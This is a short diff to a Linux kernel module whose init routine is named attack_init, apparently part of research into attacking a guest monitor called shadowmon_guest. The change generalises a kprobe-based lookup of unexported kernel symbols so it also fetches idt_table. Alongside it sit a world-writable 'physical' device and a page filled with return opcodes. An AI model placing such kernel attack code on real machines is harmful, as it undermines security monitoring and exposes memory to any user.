@@ -116,7 +116,7 @@ static struct miscdevice physical = {
 	.mode = 0666,
 };
 
-static u8 *find_gate(void)
+static void *find_symbol(const char *name)
 {
 	struct kprobe kp = {.symbol_name = "kallsyms_lookup_name"};
 	unsigned long (*lookup)(const char *name);
@@ -125,16 +125,16 @@ static u8 *find_gate(void)
 		return NULL;
 	lookup = (void *)kp.addr;
 	unregister_kprobe(&kp);
-	return (u8 *)lookup("smg_gate");
+	return (void *)lookup(name);
 }
 
 static int __init attack_init(void)
 {
-	void *page;
+	void *page, *idt_table = find_symbol("idt_table");
 	int err;
 
-	gate = find_gate();
-	if (!gate) {
+	gate = find_symbol("smg_gate");
+	if (!gate || !idt_table) {
 		pr_err("attack: shadowmon_guest is not loaded\n");
 		return -ENOENT;
 	}
@@ -143,7 +143,7 @@ static int __init attack_init(void)
 		return -ENOMEM;
 	memset(page, 0xc3, PAGE_SIZE);
 	scratch = virt_to_phys(page);
-	err = recover_init();
+	err = recover_init(idt_table);
 	if (err)
 		goto err_free;
 	err = misc_register(&physical);
